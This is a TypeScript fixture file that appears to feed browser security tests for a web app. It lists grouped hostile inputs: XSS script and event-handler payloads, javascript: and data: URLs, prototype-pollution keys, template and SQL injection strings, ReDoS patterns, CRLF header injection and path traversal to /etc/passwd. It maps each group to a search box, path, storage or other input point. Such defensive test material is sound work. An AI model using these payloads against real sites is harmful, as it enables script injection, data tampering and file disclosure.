import {PLACE, RUN} from './hostileDiagrams';

const IMAGE = `${PLACE}/image.png`;
const MARKUP = `<img src=x onerror=${RUN}>`;
const CALL = `window.${RUN}`;

/** What a visitor could put anywhere, by what it would do where it is not taken for mere text. */
export const inputs = {
  'scripts in markup': [
    `<script>${RUN}</script>`,
    `"><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<ScRiPt>${RUN}</sCrIpT>`,
    `<script/src=${PLACE}/x.js></script>`,
    `<script type=module>import '${PLACE}/x.js'</script>`,
    `--><script>${RUN}</script>`,
    `]]><script>${RUN}</script>`,
    `</textarea></title></style><script>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript>${MARKUP}">`,
  ],
  'handlers in markup': [
    MARKUP,
    `<img src="x" onerror="${RUN}">`,
    `<svg/onload=${RUN}>`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `" onmouseover="${RUN}" x="`,
    `' autofocus onfocus='${RUN}`,
    `x onclick=${RUN}`,
    `<p style="animation: x" onanimationstart="${RUN}">x</p>`,
    `<math><mtext><table><mglyph><style><!--</style>${MARKUP}`,
    // Of words that no page has: the search says a question again that finds nothing.
    '<qqqz onclick=qqqz onpointerenter=qqqz>',
  ],
  'markup that loads or leads': [
    '<iframe>',
    `<iframe src=javascript:parent.${RUN}></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data=${PLACE}/x.svg></object>`,
    `<embed src=${PLACE}/x.svg>`,
    `<base href=${PLACE}>`,
    `<meta http-equiv=refresh content="0;url=${PLACE}">`,
    `<form action=${PLACE}><button formaction=javascript:${RUN}>x</button></form>`,
    `<link rel=stylesheet href=${PLACE}/x.css>`,
    `</style><style>@import '${PLACE}/x.css'; * {background: url(${IMAGE})}</style>`,
    `<a href="javascript:${RUN}">x</a>`,
    `[x](javascript:${RUN}) ![x](${IMAGE})`,
    '<a id=body name=head><form id=documentElement><input name=getElementById>',
  ],
  'addresses that run or lead away': [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
    `vbscript:${RUN}`,
    `blob:${PLACE}/1`,
    PLACE,
    '//elsewhere.example/x',
    '\\\\elsewhere.example\\x',
    '/\\elsewhere.example',
    'https:elsewhere.example',
  ],
  'keys of prototypes': [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '__proto__[polluted]',
    'constructor.prototype.polluted',
    '__proto__:1',
    'case:__proto__',
    '{"__proto__": {"polluted": 1}}',
    '{"constructor": {"prototype": {"polluted": 1}}}',
    '{"ok": false, "__proto__": {"polluted": 1}, "payload": "x"}',
    '{"toString": 1, "valueOf": 1, "then": 1}',
  ],
  'templates and formats': [
    '{{7*7}}',
    `{{constructor.constructor('${CALL}')()}}`,
    '{{tenant.uid}} {{tenant.schema}}',
    `\${${RUN}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    '%s%n%x%d',
    "$& $1 $` $' $$",
    '{0} {name} {reason}',
    "'; DROP TABLE tenants; --",
    `<?php ${RUN}; ?>`,
    `%%{init: {"securityLevel": "loose"}}%%`,
    ':contains(x), *',
    `');${RUN};//`,
  ],
  patterns: [
    '(a+)+$',
    '(.*)+[a-z]{1,}$^\\|?',
    '[',
    '(?<x>',
    '\\',
    '*',
    `${'a'.repeat(40)}!`,
    `${'(.*)*'.repeat(50)}x`,
    `${' '.repeat(5000)}x`,
    `x${'-'.repeat(5000)}`,
    `${'"'.repeat(5000)}x`,
    `${'\\'.repeat(5000)}x`,
    `${'a-'.repeat(2500)}!`,
    `${'{'.repeat(2500)}x${'}'.repeat(2500)}`,
  ],
  'more than there is room for': [
    'a'.repeat(100_000),
    '<'.repeat(50_000),
    'ensure '.repeat(10_000),
    '\u{1F389}'.repeat(10_000),
    '\n'.repeat(10_000),
    `${MARKUP}\n`.repeat(500),
  ],
  'control characters': [
    '\0',
    `a\0${MARKUP}`,
    '\u001b]0;x\u0007',
    '\u001b[31mred',
    'a\b\b\u007f',
    'x\r\nSet-Cookie: a=b',
    'x\u2028y\u2029z',
    '\uFEFFx',
    '\u0085\u000b\u000c',
  ],
  'directions and signs that are not seen': [
    '\u202Egnp.exe',
    '\u2066\u2067\u2068x',
    '\u200B\u200C\u200D\u2060',
    `a${'\u0301'.repeat(500)}`,
    '\u{E0041}\u{E007F}',
    '\u200F\u05E9\u05DC\u05D5\u05DD\u061C',
    '\u3164\u00AD\u034F',
  ],
  'halves of signs': [
    '\uD83D',
    'a\uDC00b',
    'x\uD83D'.repeat(100),
    '\uDC00\uD800',
    '\uFFFF\uFFFE',
    '\u{1F468}\u200D\u{1F469}\uD83D',
  ],
  'broken or doubled percents': [
    '%',
    '%E0%A4%A',
    '%zz',
    '%FF',
    '%C0%AF',
    '%u003Cscript%u003E',
    '%00',
    '%252e%252e',
    '%ED%A0%80',
    '%0d%0aLocation:%20x',
    `%3Cscript%3E${RUN}%3C/script%3E`,
    '%F0%9F%92',
  ],
  'JSON that is broken, deep or a trap': [
    '['.repeat(5000),
    '{"a":'.repeat(5000),
    `${'['.repeat(5000)}${']'.repeat(5000)}`,
    `[${'1,'.repeat(20_000)}1]`,
    '{"a": 1e999, "a": -1e999}',
    '{"ok": false, "code": 1e999, "payload": null}',
    `{"ok": false, "code": 404, "payload": ${JSON.stringify(MARKUP)}}`,
    `{"ok": false, "code": ${JSON.stringify(MARKUP)}, "payload": {"error": ["x"]}}`,
    '{"ok": "no", "code": "404", "payload": [[]], "_meta": 1}',
    '"\\ud800"',
    '{"ok": false, "payload": "\\u0000\\u202e"}',
    '[{"ok": false},',
    'null',
    '{}',
  ],
  'numbers at the limits': [
    '9007199254740993',
    '-1',
    '1e999',
    '-0',
    'NaN',
    'Infinity',
    '0x10',
    '1e-7',
    '\u0663',
    '9'.repeat(400),
    '2147483648',
    'steps:1e999',
    'steps:-1,requests:0',
  ],
  'paths out of the site': [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fpackage.json',
    '....//....//etc/passwd',
    '/etc/passwd%00.html',
    'file:///etc/passwd',
    'C:\\boot.ini',
    '//host/share',
    '/.git/config',
    '/docs/../../../package.json',
    '..;/..;/x',
  ],
} satisfies Record<string, readonly string[]>;

export type Group = keyof typeof inputs;

export const groups = Object.keys(inputs) as Group[];

/** All of them, or those of some groups. */
export const textsOf = (names: readonly Group[] = groups): string[] => names.flatMap((name) => inputs[name]);

/** What is not mere text in an address: how it is encoded there is itself the attempt. */
const RAW: ReadonlySet<string> = new Set(inputs['broken or doubled percents']);

/** Half of a sign, which no address can hold. */
const HALF = /\p{Surrogate}/gu;

/** A text as a part of an address, as a visitor would have to write it there. */
export const inAddress = (text: string): string =>
  RAW.has(text) ? text : encodeURIComponent(text.replaceAll(HALF, '\uFFFD'));

/** What a field of one line makes of a text. */
export const inOneLine = (text: string): string => text.replaceAll(/[\r\n]/g, '');

/** What a box of several lines makes of a text. */
export const inLines = (text: string): string => text.replaceAll(/\r\n?/g, '\n');

/** Where a visitor can put something in a browser, and what is tried there. Functions are tried with all of them. */
export const ways = {
  'the state of the chain lab': textsOf(['broken or doubled percents']),
  'the state of the validator bench': textsOf(['broken or doubled percents']),
  'the state of the request walk': textsOf(['broken or doubled percents']),
  'the state of the benchmark reader': textsOf(['broken or doubled percents', 'numbers at the limits']),
  'texts in a state of the chain lab': textsOf(['handlers in markup']),
  'texts in a state of the validator bench': textsOf(['markup that loads or leads']),
  'texts in a state of the request walk': textsOf(['scripts in markup']),
  'the path': textsOf([
    'broken or doubled percents',
    'scripts in markup',
    'directions and signs that are not seen',
    'halves of signs',
    'paths out of the site',
  ]),
  'the fragment': textsOf(['broken or doubled percents']),
  'the example of the landing page': textsOf(['handlers in markup']),
  'attributes and colours by query': textsOf([
    'scripts in markup',
    'handlers in markup',
    'keys of prototypes',
  ]),
  'the question of the search': textsOf([
    'addresses that run or lead away',
    'handlers in markup',
    'markup that loads or leads',
    'keys of prototypes',
    'patterns',
    'more than there is room for',
    'control characters',
    'directions and signs that are not seen',
    'halves of signs',
  ]),
  'what is pasted into the search': textsOf([
    'more than there is room for',
    'JSON that is broken, deep or a trap',
  ]),
  'the box of the error finder': textsOf([
    'handlers in markup',
    'patterns',
    'more than there is room for',
    'control characters',
    'JSON that is broken, deep or a trap',
  ]),
  'the tenant': textsOf([
    'handlers in markup',
    'keys of prototypes',
    'control characters',
    'directions and signs that are not seen',
    'halves of signs',
    'numbers at the limits',
  ]),
  'the filter of a table': textsOf(['markup that loads or leads', 'templates and formats']),
  'the storage': textsOf([
    'scripts in markup',
    'keys of prototypes',
    'control characters',
    'JSON that is broken, deep or a trap',
  ]),
} satisfies Record<string, readonly string[]>;

export type Way = keyof typeof ways;

/** Short, for the name of a case. */
export function shortened(text: string): string {
  const json = JSON.stringify(text);
  return json.length > 60 ? `${json.slice(0, 60)}… (${text.length})` : json;
}
